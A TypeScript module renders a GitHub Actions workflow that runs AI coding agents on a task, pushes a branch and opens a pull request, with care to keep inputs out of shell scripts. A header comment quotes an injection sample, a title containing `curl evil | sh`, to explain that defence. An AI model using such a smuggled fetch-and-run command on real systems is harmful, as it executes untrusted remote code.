// The GitHub Actions workflow Viban asks the user to commit (.github/workflows/viban.yml). The
// job runs the same `viban run` as a laptop does, on a runner: it builds the task from the
// dispatch inputs (the runner has no .viban/ of the user's), commits to viban/<id>-<slug>,
// pushes, opens a pull request with the job's own token and uploads the session as an artifact
// that the board downloads and replays.
//
// Rules the text keeps (test/unit/remote/workflowTemplate.test.ts checks them):
// - no `${{ }}` inside a `run:` script: inputs reach scripts through `env:` only, so a title like
//   `"; curl evil | sh` is data, never shell (GitHub's own script-injection advice);
// - secrets appear only in the `env:` of the steps that need them, never echoed;
// - only actions/checkout, actions/setup-node and actions/upload-artifact.

import { STORE_RELATIVE } from '../store/layout';

/** Where the workflow lives in the repository, and its file name for the REST API. */
export const WORKFLOW_PATH = '.github/workflows/viban.yml';
export const WORKFLOW_FILE = 'viban.yml';
export const DISPATCH_EVENT_TYPE = 'viban-task';
export const DEFAULT_TIMEOUT_MINUTES = 60;
/** The artifact's name: the board finds its run's session by the correlation id. */
export const artifactName = (correlationId: string) => `viban-session-${correlationId}`;
/** The run-name: `[<correlation id>]` is how Viban finds the run it dispatched. */
export const correlationTag = (correlationId: string) => `[${correlationId}]`;

/** Executors a runner can use: the npm package of the CLI (none for the API executors), and the key it needs. */
export const REMOTE_EXECUTORS = {
  'claude-code': { npm: '@anthropic-ai/claude-code', bin: 'claude', secrets: ['ANTHROPIC_API_KEY'] },
  codex: { npm: '@openai/codex', bin: 'codex', secrets: ['OPENAI_API_KEY'] },
  gemini: { npm: '@google/gemini-cli', bin: 'gemini', secrets: ['GEMINI_API_KEY'] },
  opencode: { npm: 'opencode-ai', bin: 'opencode', secrets: ['ANTHROPIC_API_KEY', 'OPENAI_API_KEY'] },
  anthropic: { npm: '', bin: '', secrets: ['ANTHROPIC_API_KEY'] },
  openai: { npm: '', bin: '', secrets: ['OPENAI_API_KEY'] },
} as const;
export type RemoteExecutorId = keyof typeof REMOTE_EXECUTORS;
export const REMOTE_EXECUTOR_IDS = Object.keys(REMOTE_EXECUTORS) as RemoteExecutorId[];
/** Without a person at a terminal, "ask" cannot be answered: remote runs choose among these. */
export const REMOTE_PERMISSION_MODES = ['auto-edit', 'plan', 'full-auto'] as const;

/** Step names the board reads back (progress and the failing step's explanation). */
export const STEP = {
  checkKey: "Check the model's key",
  install: 'Install viban and the agent CLI',
  identity: 'Set the git identity',
  task: 'Build the task from the inputs',
  agent: 'Run the agent',
  commit: 'Commit and push the branch',
  pr: 'Open the pull request',
  record: 'Record the result and write the summary',
  upload: 'Upload the session',
} as const;

/** `TASK_ID: ${{ inputs.task_id || github.event.client_payload.task_id }}`: either trigger fills it. */
function input(name: string, fallback?: string): string {
  return `\${{ inputs.${name} || github.event.client_payload.${name}${fallback ? ` || ${fallback}` : ''} }}`;
}

export interface WorkflowOptions {
  /** The viban package version the runner installs: the extension's own. */
  vibanVersion: string;
  timeoutMinutes?: number;
}

export function renderWorkflow(opts: WorkflowOptions): string {
  const timeout = opts.timeoutMinutes ?? DEFAULT_TIMEOUT_MINUTES;
  const executors = REMOTE_EXECUTOR_IDS.map((e) => `          - ${e}`).join('\n');
  const modes = REMOTE_PERMISSION_MODES.map((m) => `          - ${m}`).join('\n');
  const installCases = REMOTE_EXECUTOR_IDS.filter((e) => REMOTE_EXECUTORS[e].npm)
    .map((e) => `            ${e}) pkg='${REMOTE_EXECUTORS[e].npm}'; bin='${REMOTE_EXECUTORS[e].bin}' ;;`)
    .join('\n');
  return `# Viban: run a board task on GitHub Actions (written by \`viban remote init github\`).
# The board dispatches this workflow, follows the run, and replays the uploaded session on the
# card. Keys come from repository secrets (Settings > Secrets and variables > Actions):
# ANTHROPIC_API_KEY, OPENAI_API_KEY or GEMINI_API_KEY, whichever your executor needs.
# Optional repository variables: ANTHROPIC_BASE_URL / OPENAI_BASE_URL / GOOGLE_GEMINI_BASE_URL
# (a proxy or your own model server), VIBAN_RUNS_ON (a self-hosted runner label).
name: Viban
run-name: "viban ${input('task_id')} ${input('title')} [${input('correlation_id')}]"

on:
  workflow_dispatch:
    inputs:
      task_id:
        description: Task id on the board
        type: string
        required: true
      title:
        description: Task title (the commit and pull request title)
        type: string
        required: true
      prompt:
        description: What the agent should do (the card's description)
        type: string
        required: false
        default: ''
      executor:
        description: Agent that runs the task
        type: choice
        default: claude-code
        options:
${executors}
      model:
        description: Model (empty for the agent's default)
        type: string
        required: false
        default: ''
      permission_mode:
        description: What the agent may do without asking (nobody can answer a question on a runner)
        type: choice
        default: auto-edit
        options:
${modes}
      base_branch:
        description: Branch to start from and to open the pull request against (empty for the default branch)
        type: string
        required: false
        default: ''
      correlation_id:
        description: Lets the board find this run
        type: string
        required: true
  repository_dispatch:
    types: [${DISPATCH_EVENT_TYPE}]

# One run per task at a time; a second dispatch for the same task waits for the first.
concurrency:
  group: viban-${input('task_id')}
  cancel-in-progress: false

permissions:
  contents: write
  pull-requests: write

jobs:
  run:
    name: Run the task
    runs-on: \${{ vars.VIBAN_RUNS_ON || 'ubuntu-latest' }}
    timeout-minutes: ${timeout}
    env:
      VIBAN_VERSION: '${opts.vibanVersion}'
      TASK_ID: ${input('task_id')}
      TASK_TITLE: ${input('title')}
      TASK_PROMPT: ${input('prompt')}
      EXECUTOR: ${input('executor', "'claude-code'")}
      MODEL: ${input('model')}
      PERMISSION_MODE: ${input('permission_mode', "'auto-edit'")}
      BASE_BRANCH: ${input('base_branch', 'github.event.repository.default_branch')}
      CORRELATION_ID: ${input('correlation_id')}
    steps:
      - name: Check out the base branch
        uses: actions/checkout@v4
        with:
          ref: \${{ env.BASE_BRANCH }}

      - name: Set up Node
        uses: actions/setup-node@v4
        with:
          node-version: 20

      - name: ${STEP.checkKey}
        # Only whether each secret is set reaches this step, never its value.
        env:
          HAS_ANTHROPIC_API_KEY: \${{ secrets.ANTHROPIC_API_KEY != '' }}
          HAS_OPENAI_API_KEY: \${{ secrets.OPENAI_API_KEY != '' }}
          HAS_GEMINI_API_KEY: \${{ secrets.GEMINI_API_KEY != '' }}
        run: |
          case "$EXECUTOR" in
            claude-code|anthropic) need='ANTHROPIC_API_KEY' ;;
            codex|openai) need='OPENAI_API_KEY' ;;
            gemini) need='GEMINI_API_KEY' ;;
            opencode) need='ANTHROPIC_API_KEY OPENAI_API_KEY' ;;
            *) echo "::error::Unknown executor '$EXECUTOR'"; exit 1 ;;
          esac
          for name in $need; do
            flag="HAS_$name"
            if [ "\${!flag}" = "true" ]; then exit 0; fi
          done
          echo "::error::The repository secret $(echo $need | sed 's/ / or /') is not set. Add it under Settings > Secrets and variables > Actions."
          exit 1

      - name: ${STEP.install}
        # A runner that already has this viban (a self-hosted one) keeps it.
        run: |
          if [ "$(viban --version 2>/dev/null)" != "$VIBAN_VERSION" ]; then
            npm install --global --no-audit --no-fund "viban@$VIBAN_VERSION"
          fi
          pkg=''; bin=''
          case "$EXECUTOR" in
${installCases}
          esac
          if [ -n "$pkg" ] && ! command -v "$bin" >/dev/null; then
            npm install --global --no-audit --no-fund "$pkg"
          fi
          viban --version

      - name: ${STEP.identity}
        run: |
          git config user.name 'github-actions[bot]'
          git config user.email '41898282+github-actions[bot]@users.noreply.github.com'
          # The session store is the board's, not the project's: never committed from here.
          echo '.viban/' >> .git/info/exclude

      - name: ${STEP.task}
        run: |
          id=$(viban add "$TASK_TITLE" --description "$TASK_PROMPT" | tail -n 1)
          echo "RUNNER_TASK=$id" >> "$GITHUB_ENV"

      - name: ${STEP.agent}
        env:
          ANTHROPIC_API_KEY: \${{ secrets.ANTHROPIC_API_KEY }}
          OPENAI_API_KEY: \${{ secrets.OPENAI_API_KEY }}
          GEMINI_API_KEY: \${{ secrets.GEMINI_API_KEY }}
          ANTHROPIC_BASE_URL: \${{ vars.ANTHROPIC_BASE_URL }}
          OPENAI_BASE_URL: \${{ vars.OPENAI_BASE_URL }}
          GOOGLE_GEMINI_BASE_URL: \${{ vars.GOOGLE_GEMINI_BASE_URL }}
          CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: '1'
        run: |
          set -- --executor "$EXECUTOR" --mode "$PERMISSION_MODE"
          if [ -n "$MODEL" ]; then set -- "$@" --model "$MODEL"; fi
          # Empty base URLs would point the agent at nothing: drop them.
          for name in ANTHROPIC_BASE_URL OPENAI_BASE_URL GOOGLE_GEMINI_BASE_URL; do
            if [ -z "\${!name}" ]; then unset "$name"; fi
          done
          viban run "$RUNNER_TASK" "$@" < /dev/null

      - name: ${STEP.commit}
        id: commit
        run: |
          branch=$(node -e '${BRANCH_NAME_JS}' "$TASK_ID" "$TASK_TITLE")
          # An earlier run of the task pushed this branch already: this run's goes beside it.
          if git ls-remote --exit-code --heads origin "$branch" >/dev/null 2>&1; then
            branch="$branch-$GITHUB_RUN_NUMBER"
          fi
          echo "branch=$branch" >> "$GITHUB_OUTPUT"
          git checkout -b "$branch"
          git add --all
          # A board.json the project commits is the board's to change, not this run's.
          git reset --quiet -- .viban 2>/dev/null || true
          if git diff --cached --quiet; then
            echo "changed=false" >> "$GITHUB_OUTPUT"
            echo "The agent changed nothing: no branch pushed."
            exit 0
          fi
          git commit --quiet -m "$TASK_TITLE" -m "Viban task $TASK_ID, run by $EXECUTOR on GitHub Actions."
          git push --quiet origin "HEAD:refs/heads/$branch"
          echo "changed=true" >> "$GITHUB_OUTPUT"

      - name: ${STEP.pr}
        id: pr
        if: steps.commit.outputs.changed == 'true'
        env:
          GH_TOKEN: \${{ github.token }}
          BRANCH: \${{ steps.commit.outputs.branch }}
        run: |
${nodeScript(OPEN_PR_JS)}

      - name: ${STEP.record}
        if: always()
        env:
          BRANCH: \${{ steps.commit.outputs.branch }}
          CHANGED: \${{ steps.commit.outputs.changed }}
          PR_URL: \${{ steps.pr.outputs.url }}
          AGENT_OUTCOME: \${{ steps.agent.outcome }}
        run: |
${nodeScript(RECORD_JS)}

      - name: ${STEP.upload}
        if: always()
        uses: actions/upload-artifact@v4
        with:
          name: viban-session-\${{ env.CORRELATION_ID }}
          # .viban/ is a hidden folder: upload-artifact v4 skips those unless told otherwise.
          include-hidden-files: true
          if-no-files-found: warn
          retention-days: 14
          path: |
            .viban/sessions/*.json
            .viban/sessions/*.jsonl
            .viban/remote/result.json
`;
}

/** `node -e '…'` as the lines of a `run: |` block (10 spaces in). */
function nodeScript(js: string): string {
  const pad = ' '.repeat(10);
  return [`${pad}node -e '`, ...js.split('\n').map((l) => pad + l), `${pad}'`].join('\n');
}

// Small node scripts the steps run (node is there: setup-node). Kept free of single quotes, as
// they sit inside '…' in the shell. The branch name follows src/git/naming.ts exactly (a unit
// test runs this script against taskBranchName).
const BRANCH_NAME_JS = [
  'const [id, title] = process.argv.slice(1);',
  'const short = id.replace(/^[a-z]_/i, "").toLowerCase().replace(/[^a-z0-9]/g, "").slice(0, 12) || "x";',
  'let slug = title.normalize("NFKD").replace(/[\\u0300-\\u036f]/g, "").toLowerCase().replace(/[^a-z0-9]+/g, "-").replace(/^-+|-+$/g, "");',
  'if (slug.length > 40) { const cut = slug.slice(0, 40); const d = cut.lastIndexOf("-"); slug = (d >= 27 ? cut.slice(0, d) : cut).replace(/-+$/g, ""); }',
  'console.log("viban/" + short + "-" + (slug || "task"));',
].join(' ');

// Opens the pull request with the job token through the REST API (GITHUB_API_URL, so GitHub
// Enterprise works); when one is already open for the branch, that one is reported.
const OPEN_PR_JS = [
  'const fs = require("fs");',
  'const e = process.env; const api = e.GITHUB_API_URL + "/repos/" + e.GITHUB_REPOSITORY;',
  'const headers = { authorization: "Bearer " + e.GH_TOKEN, accept: "application/vnd.github+json", "content-type": "application/json", "user-agent": "viban-workflow" };',
  'const body = e.TASK_PROMPT + "\\n\\n---\\nRun by Viban on GitHub Actions (" + e.EXECUTOR + "): " + e.GITHUB_SERVER_URL + "/" + e.GITHUB_REPOSITORY + "/actions/runs/" + e.GITHUB_RUN_ID;',
  '(async () => {',
  '  let r = await fetch(api + "/pulls", { method: "POST", headers, body: JSON.stringify({ title: e.TASK_TITLE, head: e.BRANCH, base: e.BASE_BRANCH, body }) });',
  '  let pr = await r.json();',
  '  if (r.status === 422) { const owner = e.GITHUB_REPOSITORY.split("/")[0]; r = await fetch(api + "/pulls?state=open&head=" + encodeURIComponent(owner + ":" + e.BRANCH), { headers }); pr = (await r.json())[0]; }',
  '  if (!r.ok || !pr || !pr.html_url) { console.log("::error::Could not open the pull request: " + r.status + " " + JSON.stringify(pr && pr.message)); process.exit(1); }',
  '  fs.appendFileSync(e.GITHUB_OUTPUT, "url=" + pr.html_url + "\\n");',
  '  console.log("Pull request: " + pr.html_url);',
  '})().catch((err) => { console.log("::error::Could not open the pull request: " + err.message); process.exit(1); });',
].join('\n');

// result.json tells the board which session, branch and pull request this run produced; the
// summary shows the same to a person looking at the run on GitHub.
const RECORD_JS = [
  'const fs = require("fs"); const path = require("path"); const e = process.env;',
  `const dir = ${JSON.stringify(STORE_RELATIVE.sessionsDir)}; let sessions = [];`,
  'try { sessions = fs.readdirSync(dir).filter((n) => n.endsWith(".json")).map((n) => JSON.parse(fs.readFileSync(path.join(dir, n), "utf8"))); } catch {}',
  'const s = sessions.sort((a, b) => String(a.createdAt).localeCompare(String(b.createdAt))).pop();',
  'const result = { schemaVersion: 1, correlationId: e.CORRELATION_ID, taskId: e.TASK_ID, runnerTaskId: e.RUNNER_TASK || undefined, sessionId: s && s.id, executor: e.EXECUTOR, agentOutcome: e.AGENT_OUTCOME || "skipped", branch: e.CHANGED === "true" ? e.BRANCH : undefined, prUrl: e.PR_URL || undefined, runId: Number(e.GITHUB_RUN_ID) || undefined };',
  `fs.mkdirSync(${JSON.stringify(STORE_RELATIVE.remoteDir)}, { recursive: true }); fs.writeFileSync(${JSON.stringify(STORE_RELATIVE.remoteResult)}, JSON.stringify(result, null, 2) + "\\n");`,
  'const cost = s && typeof s.costUsd === "number" ? "$" + s.costUsd.toFixed(4) : "n/a";',
  'const lines = ["## Viban: " + e.TASK_TITLE, "", "| | |", "|---|---|", "| Task | `" + e.TASK_ID + "` |", "| Agent | " + e.EXECUTOR + (e.MODEL ? " (" + e.MODEL + ")" : "") + " |", "| Result | " + (s ? s.status : "did not start") + " |", "| Cost | " + cost + " |", "| Branch | " + (result.branch ? "`" + result.branch + "`" : "no changes") + " |", "| Pull request | " + (result.prUrl || "none") + " |"];',
  'if (s && s.error) lines.push("", "> " + String(s.error).split("\\n")[0]);',
  'if (e.GITHUB_STEP_SUMMARY) fs.appendFileSync(e.GITHUB_STEP_SUMMARY, lines.join("\\n") + "\\n");',
].join('\n');
